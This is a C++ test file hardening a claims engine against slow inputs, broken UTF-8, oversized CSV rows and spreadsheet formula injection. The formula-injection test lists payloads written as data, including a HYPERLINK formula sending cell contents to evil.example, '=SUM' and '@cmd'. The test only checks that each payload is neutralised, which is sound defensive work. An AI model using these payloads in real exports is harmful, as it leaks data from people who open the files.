// Hardening: input shaped to cost quadratic time, names whose cut at 60
// bytes falls inside a UTF-8 character, text that is not UTF-8 at all, and
// order ids a spreadsheet would run as formulas.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "assurecalc.hpp"
#include "policy.hpp"
#include "csv.hpp"
#include "json_out.hpp"

using namespace assurecalc;
using nlohmann::json;

namespace {

const std::string kData = ASSURECALC_TEST_DATA_DIR;

std::string sample_text() {
  std::ifstream f(kData + "/samples/claim-api-sample.json", std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

json sample() {
  const std::string s = sample_text();
  REQUIRE_FALSE(s.empty());
  return json::parse(s);
}

// Well-formed UTF-8 (RFC 3629), decoded code point by code point: written
// apart from the engine's own check so that the two are not wrong together.
bool valid_utf8(std::string_view s) {
  size_t i = 0;
  while (i < s.size()) {
    const unsigned c = static_cast<unsigned char>(s[i]);
    size_t len;
    uint32_t cp, min;
    if (c < 0x80) {
      ++i;
      continue;
    } else if ((c & 0xE0) == 0xC0) {
      len = 2, cp = c & 0x1F, min = 0x80;
    } else if ((c & 0xF0) == 0xE0) {
      len = 3, cp = c & 0x0F, min = 0x800;
    } else if ((c & 0xF8) == 0xF0) {
      len = 4, cp = c & 0x07, min = 0x10000;
    } else {
      return false;
    }
    if (i + len > s.size())
      return false;
    for (size_t k = 1; k < len; ++k) {
      const unsigned b = static_cast<unsigned char>(s[i + k]);
      if ((b & 0xC0) != 0x80)
        return false;
      cp = (cp << 6) | (b & 0x3F);
    }
    if (cp < min || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF))
      return false;
    i += len;
  }
  return true;
}

// The result is valid UTF-8 and JSON; returns it parsed.
json checked(const std::string& out) {
  REQUIRE(valid_utf8(out));
  const json r = json::parse(out, nullptr, false);
  REQUIRE_FALSE(r.is_discarded());
  return r;
}

// Characters of 2, 3 and 4 bytes.
const char* const kWide[] = {"\xC3\xA9", "\xE2\x82\xAC", "\xF0\x9F\x98\x80"};

// `ascii` letters then `wide`, as a message shows it: cut to 60 bytes, the
// wide character whole or not at all.
std::string shown(size_t ascii, char letter, const char* wide) {
  const std::string s(ascii, letter);
  return ascii + std::strlen(wide) <= 60 ? s + wide : s;
}

}  // namespace

TEST_CASE("missing fields of many empty payments: each once, in order, in linear time") {
  // Each {} lacks method, to and amount; the kind's payment check and the
  // covered-payments cap both list them, so the result keeps the first of
  // each. With every pointer compared with every one kept, 70,000 payments
  // (210 KB) took about 100 s; kept in a hash table, 0.3 s. No clock here:
  // ctest's timeout is the guard.
  for (const size_t n : {size_t(1), size_t(2), size_t(3), size_t(17), size_t(70000)}) {
    json c = sample();
    c["payments"] = json::array();
    for (size_t i = 0; i < n; ++i)
      c["payments"].push_back(json::object());
    const std::string text = c.dump();
    REQUIRE(text.size() < (size_t(1) << 20));
    const std::string out = evaluate(text);
    REQUIRE(valid_utf8(out));
    // The whole list as text: parsing 5 MB of result would cost more than
    // the evaluation.
    std::string want = "\"status\":\"needs_info\"";
    const size_t status = out.find(want);
    REQUIRE(status != std::string::npos);
    CHECK(out.find(want, status + 1) == std::string::npos);  // one claim
    want = "\"missing\":[";
    for (size_t i = 0; i < n; ++i)
      for (const char* leaf : {"/method", "/to", "/amount"})
        want +=
            (i || std::strcmp(leaf, "/method") ? ",\"/payments/" : "\"/payments/") + std::to_string(i) + leaf + "\"";
    want += "],\"assumed\":[]}";
    CHECK(out.find(want, status) != std::string::npos);
    if (n < 100) {
      const json r = checked(out);
      CHECK(r["claims"][0]["missing"].size() == 3 * n);
    }
  }
}

TEST_CASE("missing fields: every kind of a claim with many empty payments, and a missing field besides") {
  json c = sample();
  c["issue"] = json::object();
  c["shipment"].erase("expected_delivery_by");
  c["payments"] = json::array();
  for (int i = 0; i < 40; ++i)
    c["payments"].push_back(json::object());
  const json r = checked(evaluate(c.dump()));
  REQUIRE(r["ok"] == true);
  int asked = 0;
  for (const json& k : r["claims"]) {
    if (k["status"] != "needs_info")
      continue;
    ++asked;
    const std::vector<std::string> m = k["missing"].get<std::vector<std::string>>();
    // No pointer twice, and the payments' in their order.
    for (size_t i = 0; i < m.size(); ++i)
      for (size_t j = i + 1; j < m.size(); ++j)
        REQUIRE(m[i] != m[j]);
    std::vector<std::string> pay;
    for (const std::string& p : m)
      if (p.rfind("/payments/", 0) == 0)
        pay.push_back(p);
    REQUIRE(pay.size() == 120);
    CHECK(pay.front() == "/payments/0/method");
    CHECK(pay[5] == "/payments/1/amount");
    CHECK(pay.back() == "/payments/39/amount");
  }
  CHECK(asked > 0);
}

TEST_CASE("utf8_prefix cuts before a character, never inside one") {
  CHECK(utf8_prefix("abc", 60) == "abc");
  CHECK(utf8_prefix("abcdef", 3) == "abc");
  for (const char* wide : kWide) {
    const size_t w = std::strlen(wide);
    for (size_t ascii = 60 - w; ascii <= 60; ++ascii) {
      const std::string s = std::string(ascii, 'a') + wide + "tail";
      const std::string_view cut = utf8_prefix(s, 60);
      CHECK(cut.size() <= 60);
      CHECK(valid_utf8(cut));
      // The character is kept whole when it fits, else left out.
      CHECK(cut == (ascii + w <= 60 ? s.substr(0, ascii + w) : s.substr(0, ascii)));
    }
  }
}

TEST_CASE("json_string writes valid UTF-8 as it is and replaces what is not") {
  auto str = [](std::string_view s) {
    std::string out;
    json_string(out, s);
    return out;
  };
  CHECK(str("caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80") == "\"caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80\"");
  CHECK(str("Vi\xE1\xBB\x87t Nam, long enough for the 8-byte path") ==
        "\"Vi\xE1\xBB\x87t Nam, long enough for the 8-byte path\"");
  const std::string repl = "\xEF\xBF\xBD";
  CHECK(str("a\xC3") == "\"a" + repl + "\"");                                 // cut short at the end
  CHECK(str("a\xC3\"b") == "\"a" + repl + "\\\"b\"");                         // cut short before a quote
  CHECK(str("\xFF\xFE") == "\"" + repl + repl + "\"");                        // never UTF-8
  CHECK(str("\xC0\xAF") == "\"" + repl + repl + "\"");                        // overlong '/'
  CHECK(str("\xED\xA0\x80") == "\"" + repl + repl + repl + "\"");             // a surrogate
  CHECK(str("\xF4\x90\x80\x80") == "\"" + repl + repl + repl + repl + "\"");  // beyond U+10FFFF
  CHECK(str("12345678\x80rest") == "\"12345678" + repl + "rest\"");           // a stray continuation byte
  std::string all;
  for (int b = 0; b < 256; ++b)
    all += char(b);
  CHECK(valid_utf8(str(all)));
  CHECK_FALSE(json::parse(str(all), nullptr, false).is_discarded());
}

TEST_CASE("a duplicate member name cut at 60 bytes stays valid UTF-8") {
  const std::string text = sample_text();
  for (const char* wide : kWide)
    for (size_t ascii = 56; ascii <= 60; ++ascii) {
      const std::string name = std::string(ascii, 'a') + wide;
      std::string claim = text;
      const size_t brace = claim.find('{');
      claim.insert(brace + 1, "\"" + name + "\": 1, \"" + name + "\": 2,");
      const json r = checked(evaluate(claim));
      REQUIRE(r["ok"] == false);
      REQUIRE(r["errors"].size() == 1);
      CHECK(r["errors"][0]["code"] == "INVALID_JSON");
      CHECK(r["errors"][0]["path"] == "/" + name);
      const std::string msg = r["errors"][0]["message"];
      CHECK(msg.find("\"" + shown(ascii, 'a', wide) + "\" appears more than once") != std::string::npos);
      CHECK(msg.find("\xEF\xBF\xBD") == std::string::npos);
    }
}

TEST_CASE("an unknown SKU in issue.missing_units cut at 60 bytes stays valid UTF-8") {
  for (const char* wide : kWide)
    for (size_t ascii = 56; ascii <= 60; ++ascii) {
      const std::string sku = std::string(ascii, 'S') + wide;
      json c = sample();
      c["issue"] = {{"kind", "quantity_short"}, {"missing_units", {{sku, 3}}}};
      const json r = checked(evaluate(c.dump()));
      REQUIRE(r["ok"] == false);
      REQUIRE(r["errors"].size() == 1);
      CHECK(r["errors"][0]["code"] == "UNKNOWN_SKU");
      const std::string msg = r["errors"][0]["message"];
      CHECK(msg == "SKU \"" + shown(ascii, 'S', wide) + "\" in /issue/missing_units is not one of the order's lines.");
    }
}

TEST_CASE("an unknown program with a long name gives valid UTF-8") {
  for (const char* wide : kWide)
    for (size_t ascii = 56; ascii <= 60; ++ascii) {
      json c = sample();
      c["program"] = std::string(ascii, 'p') + wide;
      const json r = checked(evaluate(c.dump()));
      REQUIRE(r["ok"] == false);
      CHECK(r["errors"][0]["code"] == "UNKNOWN_PROGRAM");
    }
}

TEST_CASE("an unknown CSV column cut at 60 bytes stays valid UTF-8") {
  for (const char* wide : kWide)
    for (size_t ascii = 56; ascii <= 60; ++ascii) {
      const std::string col = std::string(ascii, 'c') + wide;
      const std::string msg = check_csv_header({"created_on", "currency", "total", col});
      CHECK(valid_utf8(msg));
      CHECK(msg.rfind("unknown column \"" + shown(ascii, 'c', wide) + "\";", 0) == 0);
      const std::string csv = "created_on,currency,total," + col + "\n2025-01-01,USD,1,red\n";
      const json r = json::parse(csv_to_claims_json(csv), nullptr, false);
      REQUIRE_FALSE(r.is_discarded());
      CHECK(r["ok"] == false);
      CHECK(r["error"] == "line 1: " + msg);
    }
}

TEST_CASE("a CSV cell that is not UTF-8 reaches the engine replaced, never as an exception") {
  const std::vector<std::string> header = {"order_id", "as_of", "created_on", "currency", "total", "incoterm"};
  const std::vector<std::string> row = {"PO-\xFF\xFE", "2025-04-20T09:30:00Z", "2025-03-02", "USD", "100", "CI\xC3"};
  std::string claim;
  REQUIRE_NOTHROW(claim = csv_row_to_claim(header, row));
  CHECK(valid_utf8(claim));
  const json r = checked(evaluate(claim));
  CHECK(r["ok"] == false);  // the incoterm is no Incoterm
  const json t =
      json::parse(csv_to_claims_json("order_id,created_on,currency,total\nPO-\xFF,2025-03-02,USD,1\n"), nullptr, false);
  REQUIRE_FALSE(t.is_discarded());
  CHECK(t["ok"] == true);
}

TEST_CASE("order ids that start like a formula are neutralised in the CSV result") {
  const std::string claim = sample_text();
  auto rows_of = [&](size_t line, const char* id, const std::string& text) {
    std::string out;
    evaluate_csv_rows(line, id, text, out);
    return out;
  };
  const std::string rest = ",alibaba-ta-2017,2025-04-20T17:30:00+08:00,quality,open,300000,USD,cash,";
  struct Case {
    const char* id;
    const char* cell;
  };
  const Case cases[] = {
      {"-1+HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
       "\"'-1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""},
      {"-2-3", "'-2-3"},
      {"\t=1+1", "'\t=1+1"},
      {"\r=1+1", "\"'\r=1+1\""},
      {"-42", "'-42"},  // an id, not a number: shown as it was written
      {"=SUM(A1:A9)", "'=SUM(A1:A9)"},
      {"+1", "'+1"},
      {"@cmd", "'@cmd"},
      {"PO-1001", "PO-1001"},
      {"PO 7, \"rush\"", "\"PO 7, \"\"rush\"\"\""},
  };
  for (const Case& k : cases) {
    const std::string rows = rows_of(2, k.id, claim);
    CHECK(rows.rfind(std::string("2,") + k.cell + rest, 0) == 0);
  }
  // The numbers the engine writes stay numbers.
  const std::string rows = rows_of(2, "-5", claim);
  CHECK(rows.find(",open,300000,USD,cash,") != std::string::npos);
  CHECK(rows.find(",22,,,") != std::string::npos);  // days_left, then no reasons or missing
  // An error row neutralises the id too.
  const std::string err = rows_of(3, "-2-3", "{\"as_of\":\"soon\"}");
  CHECK(err.rfind("3,'-2-3,,,,error,", 0) == 0);
}

TEST_CASE("csv_escape neutralises = + - @ TAB and CR at the start only") {
  CHECK(csv_escape("") == "");
  CHECK(csv_escape("a-1") == "a-1");
  CHECK(csv_escape(" =1") == " =1");
  CHECK(csv_escape("-") == "'-");
  CHECK(csv_escape("-0.5") == "'-0.5");
  CHECK(csv_escape("\t") == "'\t");
  CHECK(csv_escape("\r") == "\"'\r\"");
  CHECK(csv_escape("a,b") == "\"a,b\"");
}

// Found by fuzz_csv: a header naming a column whose bytes are not UTF-8.
TEST_CASE("a CSV header with a column name that is not UTF-8 is an error value, never a throw") {
  std::string out;
  REQUIRE_NOTHROW(out = csv_to_claims_json("total,created_on,\x81\n"));
  const json r = checked(out);
  CHECK(r["ok"] == false);
  CHECK(r["error"].get<std::string>().find("unknown column") != std::string::npos);
}

// Found by fuzz_policy: a switch none of whose cases compiles had no type.
TEST_CASE("a policy switch without a case that compiles is refused with its path") {
  std::string policy;
  {
    std::ifstream f(kData + "/../src/policies/alibaba-ta-2017.json");
    std::stringstream ss;
    ss << f.rdbuf();
    policy = ss.str();
  }
  const json base = json::parse(policy);
  json broken = base;
  broken["id"] = "test-switch";
  broken["program"] = "test-switch";
  broken["caps"][0]["value"] = json::parse(R"({"switch":"order.incoterm","ca{es":{}})");
  Registry reg;
  std::vector<PolicyError> errors;
  load_builtin(reg, errors);
  REQUIRE(errors.empty());
  CHECK_FALSE(reg.add_policy(broken.dump(), errors));
  bool named = false;
  for (const PolicyError& e : errors)
    named =
        named || (e.path == "/caps/0/value/cases" && e.message.find("needs at least one case") != std::string::npos);
  CHECK(named);
  for (const PolicyError& e : errors)
    CHECK(valid_utf8(e.message));
}

TEST_CASE("a CSV row over 1 MiB is an error row at its line, and the rows after it are kept") {
  const std::string head = "order_id,created_on,currency,total\n";
  const std::string ok1 = "PO-1,2025-03-02,USD,100\n";
  const std::string ok2 = "PO-3,2025-03-02,USD,300\n";
  const std::string kinds[] = {
      "PO-2,2025-03-02,USD," + std::string((size_t(1) << 20) + 10, '7') + "\n",  // a long plain cell
      "PO-2,\"" + std::string((size_t(1) << 20) + 10, 'x') + "\",USD,1\n",       // a long quoted cell
  };
  for (const std::string& big : kinds) {
    const std::string text = head + ok1 + big + ok2;
    // The whole text at once, and in pieces of 64 KiB.
    for (size_t piece : {text.size(), size_t(65536)}) {
      INFO("piece " << piece << ", quoted " << (big[5] == '"'));
      CsvClaims claims;
      std::string rows;
      for (size_t at = 0; at < text.size(); at += piece) {
        claims.push(std::string_view(text).substr(at, piece));
        const json r = json::parse(claims.take_json());
        REQUIRE(r["ok"] == true);
        for (const json& row : r["rows"])
          rows += std::to_string(row["line"].get<int>()) + (row.contains("error") ? "E " : " ");
      }
      claims.finish();
      const json r = json::parse(claims.take_json());
      for (const json& row : r["rows"])
        rows += std::to_string(row["line"].get<int>()) + (row.contains("error") ? "E " : " ");
      CHECK(rows == "2 3E 4 ");
    }
  }
}
